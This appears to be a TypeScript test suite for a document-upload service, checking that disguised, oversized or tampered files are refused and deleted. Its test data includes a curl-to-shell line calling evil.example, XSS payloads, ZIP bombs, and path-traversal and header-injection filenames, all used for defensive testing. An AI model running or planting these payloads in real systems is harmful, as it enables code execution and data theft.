/** What is uploaded is what was announced, or nothing of it is kept. */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { SignJWT } from "jose";
import { systemClock } from "@core/platform/clock.ts";
import { silentLogger } from "@core/platform/logger.ts";
import { createApp } from "../../supabase/functions/documents/app.ts";
import { bytes, EXE, jpeg, png, SAMPLES, zeros, zip } from "../support/sample_files.ts";
import {
  type Announced,
  BUCKET,
  codeOf,
  type DocumentsWorld,
  type FileFacts,
  MOST,
  pdfOf,
  refusalOf,
  send,
  type SignedIn,
  testDocuments,
  textOf,
} from "./documents_support.ts";

const PDF = SAMPLES["application/pdf"];
const text = (written: string) => new TextEncoder().encode(written);

const confirm = (world: DocumentsWorld, { id }: Announced, by: SignedIn) =>
  world.ask(`/documents/${id}/confirm`, by, { method: "POST" });

async function rowOf(world: DocumentsWorld, id: string) {
  const [row] = await world.sql<
    {
      isReadable: boolean;
      isPending: boolean;
      refusedReason: string | null;
      detectedType: string | null;
      sha256: string | null;
      name: string;
    }[]
  >`
    select is_readable as "isReadable", is_pending as "isPending",
      refused_reason as "refusedReason", detected_type as "detectedType", sha256, name
    from claim_documents where id = ${id}`;
  assert.ok(row);
  return row;
}

/** Refused for good: the row says why, nobody reads it, and Storage holds nothing. */
async function assertNothingKept(
  world: DocumentsWorld,
  at: Announced,
  owner: SignedIn,
  reason: string,
): Promise<void> {
  const row = await rowOf(world, at.id);
  assert.deepEqual([row.isReadable, row.isPending, row.refusedReason], [false, false, reason]);
  assert.equal(await world.isStored(at.path), false);
  const opened = await world.ask(`/documents/${at.id}/download`, owner);
  assert.deepEqual(await refusalOf(opened), [404, "not_found"]);
  const audits = (await world.audits(at.id)).filter(({ action }) => action === "document.refused");
  assert.deepEqual(audits.map(({ metadata }) => metadata["reason"]), [reason]);
}

testDocuments("every kind that is taken is confirmed as what it is", async (world) => {
  const owner = await world.person();
  const claimId = await world.draft(owner);
  for (const [type, content] of Object.entries(SAMPLES)) {
    const at = await world.upload(owner, claimId, {
      type,
      content,
      name: `file.${type.slice(-3)}`,
    });
    const answer = await confirm(world, at, owner);
    assert.deepEqual(await answer.json(), {
      result: "confirmed",
      id: at.id,
      name: `file.${type.slice(-3)}`,
      type,
      size: content.length,
    });
    const row = await rowOf(world, at.id);
    assert.deepEqual([row.isReadable, row.detectedType], [true, type]);
    assert.equal(row.sha256, createHash("sha256").update(content).digest("hex"));
  }
});

testDocuments("a file of exactly 15 MB is taken", async (world) => {
  const owner = await world.person();
  const at = await world.upload(owner, await world.draft(owner), { content: pdfOf(MOST) });
  assert.equal((await confirm(world, at, owner)).status, 200);
});

testDocuments("HEIC that is announced as HEIF stays what it was announced as", async (world) => {
  const owner = await world.person();
  const at = await world.upload(owner, await world.draft(owner), {
    type: "image/heif",
    content: SAMPLES["image/heic"],
  });
  assert.equal((await confirm(world, at, owner)).status, 200);
  assert.equal((await rowOf(world, at.id)).detectedType, "image/heif");
});

const BAD: readonly [name: string, file: FileFacts & { content: Uint8Array }, reason: string][] = [
  ["a program called photo.jpg", {
    name: "photo.jpg",
    type: "image/jpeg",
    content: EXE,
  }, "executable"],
  ["a script called notes.txt", {
    name: "notes.txt",
    type: "text/plain",
    content: text("#!/bin/sh\ncurl evil.example | sh\n"),
  }, "executable"],
  ["a picture announced as a paper", { content: jpeg() }, "wrong_type"],
  ["a paper announced as a picture", {
    name: "scan.png",
    type: "image/png",
    content: PDF,
  }, "wrong_type"],
  ["a picture with a ZIP behind it", {
    name: "photo.jpg",
    type: "image/jpeg",
    content: bytes(jpeg(), zip("run.js")),
  }, "polyglot"],
  ["a paper with a ZIP behind it", { content: bytes(PDF, zip("run.jar")) }, "polyglot"],
  ["a picture that is a page too", {
    name: "photo.png",
    type: "image/png",
    content: bytes(png(), "<html><script>alert(1)</script>"),
  }, "polyglot"],
  [
    "a ZIP bomb called paper.pdf",
    { content: zip("bomb.zip", zip("0", zeros(500_000))) },
    "archive",
  ],
  ["a gzip bomb called notes.txt", {
    name: "notes.txt",
    type: "text/plain",
    content: bytes([0x1f, 0x8b, 8, 0], zeros(40)),
  }, "archive"],
  ["a picture of 3.6 thousand million points", {
    name: "big.png",
    type: "image/png",
    content: png(60_000, 60_000),
  }, "too_many_pixels"],
  ["a page called notes.txt", {
    name: "notes.txt",
    type: "text/plain",
    content: text("<!doctype html><script>fetch('/api/claims')</script>"),
  }, "markup"],
  ["a page in the middle of a text", {
    name: "notes.txt",
    type: "text/plain",
    content: bytes(textOf(200_000), "<img src=x onerror=alert(1)>", textOf(100)),
  }, "markup"],
  ["a drawing in code called photo.webp", {
    name: "photo.webp",
    type: "image/webp",
    content: text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
  }, "markup"],
  ["noise called paper.pdf", {
    content: bytes([0x83, 0x99, 0, 1, 2, 3]),
  }, "unknown_type"],
  ["more than was announced", { content: pdfOf(5000), size: 4999 }, "wrong_size"],
  ["less than was announced", { content: pdfOf(5000), size: 5001 }, "wrong_size"],
  ["far more than may be announced", { content: pdfOf(5000), size: 1 }, "wrong_size"],
  ["nothing", { content: zeros(0), size: 10 }, "empty_file"],
];

for (const [name, file, reason] of BAD) {
  testDocuments(`${name}: ${reason}, and nothing is kept`, async (world) => {
    const owner = await world.person();
    const at = await world.upload(owner, await world.draft(owner), file);
    assert.equal(await world.isStored(at.path), true);
    const answer = await confirm(world, at, owner);
    assert.deepEqual(await refusalOf(answer), [422, reason]);
    await assertNothingKept(world, at, owner, reason);
    assert.deepEqual(await refusalOf(await confirm(world, at, owner)), [422, reason], "twice");
  });
}

testDocuments(
  "more than 15 MB, 0 bytes or a kind that is not taken is not even awaited",
  async (world) => {
    const owner = await world.person();
    const claimId = await world.draft(owner);
    for (
      const file of [
        { size: MOST + 1 },
        { size: 0 },
        { size: -1 },
        { type: "text/html" },
        { type: "image/svg+xml" },
        { type: "application/zip" },
        { type: "application/pdf; x=y" },
      ]
    ) {
      await assert.rejects(world.announce(owner, claimId, file), { code: "23514" });
    }
  },
);

testDocuments("Storage takes no file of another kind, and none that is too long", async (world) => {
  const owner = await world.person();
  const at = await world.announce(owner, await world.draft(owner), { size: MOST });
  const address = await world.uploadAddress(owner, at);
  for (
    const [content, type] of [
      [text("<html>"), "text/html"],
      [zip(), "application/zip"],
      [pdfOf(MOST + 1), "application/pdf"],
    ] as const
  ) {
    const answer = await send(address, content, type);
    assert.ok(answer.status >= 400 && answer.status < 500, `${type}: ${answer.status}`);
    await answer.body?.cancel();
    assert.equal(await world.isStored(at.path), false);
  }
  assert.deepEqual(await refusalOf(await confirm(world, at, owner)), [409, "not_uploaded"]);
});

testDocuments("what was sent as another kind than announced is refused", async (world) => {
  const owner = await world.person();
  const at = await world.announce(owner, await world.draft(owner));
  await send(await world.uploadAddress(owner, at), PDF, "text/plain");
  assert.deepEqual(await refusalOf(await confirm(world, at, owner)), [422, "wrong_type"]);
  await assertNothingKept(world, at, owner, "wrong_type");
});

testDocuments(
  "names lose their folders, what cannot be seen, and never become paths",
  async (world) => {
    const owner = await world.person();
    const claimId = await world.draft(owner);
    for (
      const [given, kept] of [
        ["../../../etc/passwd.pdf", "passwd.pdf"],
        ["..\\..\\windows\\system32\\x.pdf", "x.pdf"],
        ["/etc/passwd", "passwd"],
        ["invoice\u202efdp.exe", "invoicefdp.exe"],
        ["a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie: x=1.pdf"],
      ] as const
    ) {
      const at = await world.document(owner, claimId, { name: given });
      assert.equal((await rowOf(world, at.id)).name, kept);
      assert.equal(at.path, `tenants/ks/claims/${claimId}/${at.id}`);
    }
    for (const name of ["x".repeat(10_000), "", "../", "\u202e"]) {
      await assert.rejects(world.announce(owner, claimId, { name }), { code: "23514" });
    }
  },
);

testDocuments(
  "Storage takes the announced path only, whatever is put into the address",
  async (world) => {
    const owner = await world.person();
    const claimId = await world.draft(owner);
    const at = await world.announce(owner, claimId);
    const storage = `${world.env.supabaseUrl}/storage/v1/object`;
    const token = new URL(await world.uploadAddress(owner, at)).search;
    const folder = `tenants/ks/claims/${claimId}`;
    const paths = [
      `${folder}/${crypto.randomUUID()}`,
      `${at.path}/x`,
      `${at.path}%2fx`,
      `${folder}/..%2f..%2f..%2fmk/x`,
      `${folder}//${at.id}`,
      `${at.path}%00`,
      `tenants/mk/claims/${claimId}/${at.id}`,
    ];
    for (const path of paths) {
      for (
        const answer of [
          await send(`${storage}/upload/sign/${BUCKET}/${path}${token}`, PDF, at.type),
          await fetch(`${storage}/${BUCKET}/${path}`, {
            method: "POST",
            headers: {
              apikey: world.env.supabasePublishableKey,
              authorization: `Bearer ${owner.token}`,
              "content-type": at.type,
            },
            body: Uint8Array.from(PDF),
          }),
        ]
      ) {
        assert.ok(answer.status >= 400, `${path}: ${answer.status}`);
        await answer.body?.cancel();
      }
    }
    const stored = await world.sql`
    select name from storage.objects where strpos(name, ${claimId}) > 0`;
    assert.deepEqual([...stored], []);
  },
);

testDocuments("an upload's address works once", async (world) => {
  const owner = await world.person();
  const at = await world.announce(owner, await world.draft(owner));
  const address = await world.uploadAddress(owner, at);
  assert.equal((await send(address, PDF, at.type)).status, 200);
  for (const content of [PDF, EXE]) {
    const again = await send(address, content, at.type);
    assert.ok(again.status === 400 || again.status === 409);
    assert.match(await again.text(), /exists|duplicate/i);
  }
  assert.equal((await confirm(world, at, owner)).status, 200);
  const after = await send(address, EXE, at.type);
  assert.ok(after.status === 400 || after.status === 409);
  await after.body?.cancel();
  const file = await world.ask(`/documents/${at.id}/download`, owner);
  assert.deepEqual(new Uint8Array(await file.arrayBuffer()), PDF);
});

testDocuments(
  "an address that is used again after a refusal leaves nothing either",
  async (world) => {
    const owner = await world.person();
    const at = await world.announce(owner, await world.draft(owner), { size: EXE.length });
    const address = await world.uploadAddress(owner, at);
    await send(address, EXE, at.type);
    assert.deepEqual(await refusalOf(await confirm(world, at, owner)), [422, "executable"]);
    await send(address, PDF, at.type);
    assert.deepEqual(await refusalOf(await confirm(world, at, owner)), [422, "executable"]);
    await assertNothingKept(world, at, owner, "executable");
  },
);

testDocuments("an address that is over is refused by Storage", async (world) => {
  const owner = await world.person();
  const at = await world.announce(owner, await world.draft(owner));
  const address = new URL(await world.uploadAddress(owner, at));
  const [, payload = ""] = (address.searchParams.get("token") ?? "").split(".");
  const claims = JSON.parse(atob(payload.replaceAll("-", "+").replaceAll("_", "/")));
  const over = await new SignJWT({ ...claims }).setProtectedHeader({ alg: "HS256" })
    .setExpirationTime("-1s").sign(new TextEncoder().encode(world.env.supabaseJwtSecret));
  address.searchParams.set("token", over);
  const answer = await send(String(address), PDF, at.type);
  assert.equal(answer.status, 400);
  assert.equal((await answer.json()).error, "InvalidJWT");
  assert.equal(await world.isStored(at.path), false);
});

testDocuments(
  "after its hour an upload is refused, and what came late is removed",
  async (world) => {
    const owner = await world.person();
    const claimId = await world.draft(owner);
    const late = await world.announce(owner, claimId);
    const address = await world.uploadAddress(owner, late);
    await world.sql`
    update claim_documents set upload_expires_at = now() - interval '1 second'
    where id = ${late.id}`;
    // The address itself lives for two hours.
    assert.equal((await send(address, PDF, late.type)).status, 200);
    assert.deepEqual(await refusalOf(await confirm(world, late, owner)), [410, "expired"]);
    await assertNothingKept(world, late, owner, "expired");
    const unsigned = await world.announce(owner, claimId);
    await world.sql`
    update claim_documents set upload_expires_at = now() where id = ${unsigned.id}`;
    const refused = await fetch(
      `${world.env.supabaseUrl}/storage/v1/object/upload/sign/${BUCKET}/${unsigned.path}`,
      {
        method: "POST",
        headers: {
          apikey: world.env.supabasePublishableKey,
          authorization: `Bearer ${owner.token}`,
        },
      },
    );
    assert.ok(refused.status >= 400);
    await refused.body?.cancel();
  },
);

testDocuments("confirming twice, at once or later, is the same as once", async (world) => {
  const owner = await world.person();
  const at = await world.upload(owner, await world.draft(owner));
  const answers = await Promise.all([1, 2, 3, 4].map(() => confirm(world, at, owner)));
  for (const answer of [...answers, await confirm(world, at, owner)]) {
    assert.equal(answer.status, 200);
    assert.equal((await answer.json()).result, "confirmed");
  }
  const audits = await world.audits(at.id);
  assert.deepEqual(audits.map(({ action }) => action), ["document.uploaded"]);
});

/** The function in front of a Storage that waits before it hands a file out, and may hand out another. */
async function withSlowStorage(
  world: DocumentsWorld,
  meanwhile: () => Promise<void>,
  confirmSlowly: (confirm: (at: Announced, by: SignedIn) => Promise<Response>) => Promise<void>,
  instead?: Uint8Array<ArrayBuffer>,
): Promise<void> {
  const slow = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
    const url = new URL(request.url);
    const body = await request.bytes();
    const answer = await fetch(`${world.env.supabaseUrl}${url.pathname}${url.search}`, {
      method: request.method,
      headers: request.headers,
      body: body.length > 0 ? body : null,
    });
    if (request.method !== "GET") return answer;
    await meanwhile();
    if (instead === undefined) return answer;
    await answer.body?.cancel();
    return new Response(instead);
  });
  const supabaseUrl = `http://127.0.0.1:${slow.addr.port}`;
  const env = { ...world.env, supabaseUrl };
  const app = createApp({ env, db: world.db, clock: systemClock, log: silentLogger });
  try {
    await confirmSlowly(async ({ id }, by) =>
      await app.request(`/documents/${id}/confirm`, {
        method: "POST",
        headers: { authorization: `Bearer ${by.token}` },
      })
    );
  } finally {
    await slow.shutdown();
  }
}

testDocuments("a file that is replaced while it is looked at is not confirmed", async (world) => {
  const owner = await world.person();
  const at = await world.upload(owner, await world.draft(owner));
  const replace = async () => {
    await world.sql`update storage.objects set version = 'other' where name = ${at.path}`;
  };
  await withSlowStorage(world, replace, async (confirmSlowly) => {
    assert.deepEqual(await refusalOf(await confirmSlowly(at, owner)), [422, "changed"]);
  });
  await assertNothingKept(world, at, owner, "changed");
});

testDocuments("what was confirmed meanwhile is kept, whatever a slower look saw", async (world) => {
  const owner = await world.person();
  const at = await world.upload(owner, await world.draft(owner));
  const confirmFirst = async () => {
    assert.equal((await confirm(world, at, owner)).status, 200);
  };
  await withSlowStorage(world, confirmFirst, async (confirmSlowly) => {
    const answer = await confirmSlowly(at, owner);
    assert.deepEqual([answer.status, (await answer.json()).result], [200, "confirmed"]);
  }, Uint8Array.from(EXE));
  assert.equal(await world.isStored(at.path), true);
  assert.equal((await rowOf(world, at.id)).isReadable, true);
});

testDocuments("while Storage is away an upload stays awaited", async (world) => {
  const owner = await world.person();
  const at = await world.upload(owner, await world.draft(owner));
  const env = { ...world.env, supabaseUrl: "http://127.0.0.1:1" };
  const app = createApp({ env, db: world.db, clock: systemClock, log: silentLogger });
  const answer = await app.request(`/documents/${at.id}/confirm`, {
    method: "POST",
    headers: { authorization: `Bearer ${owner.token}` },
  });
  assert.deepEqual(await refusalOf(answer), [503, "storage_unavailable"]);
  assert.ok(answer.headers.has("retry-after"));
  assert.equal((await rowOf(world, at.id)).isPending, true);
  assert.equal((await confirm(world, at, owner)).status, 200);
});

testDocuments("others' uploads are not confirmed, and that was tried is noted", async (world) => {
  const owner = await world.person();
  const staff = await world.person({ role: "staff" });
  const stranger = await world.person({ tenantId: "mk" });
  const claimId = await world.claim(owner);
  const pending = await world.upload(owner, claimId);
  const done = await world.document(owner, claimId);
  assert.deepEqual(await refusalOf(await confirm(world, pending, staff)), [404, "not_found"]);
  assert.deepEqual(await refusalOf(await confirm(world, pending, stranger)), [404, "not_found"]);
  assert.deepEqual(await refusalOf(await confirm(world, done, staff)), [403, "forbidden"]);
  assert.deepEqual(await refusalOf(await confirm(world, done, stranger)), [404, "not_found"]);
  assert.equal((await rowOf(world, pending.id)).isPending, true);
  const noted = (await world.audits(pending.id)).map(({ action, actorId }) => [action, actorId]);
  assert.deepEqual(noted, [
    ["document.forbidden", staff.userId],
    ["document.forbidden", stranger.userId],
  ]);
});

testDocuments("an upload that its owner took back is not there", async (world) => {
  const owner = await world.person();
  const at = await world.upload(owner, await world.draft(owner));
  await world.db.asUser(owner, (tx) => tx`select public.delete_document(${at.id})`);
  const answer = await confirm(world, at, owner);
  assert.deepEqual([answer.status, await codeOf(answer)], [404, "not_found"]);
});
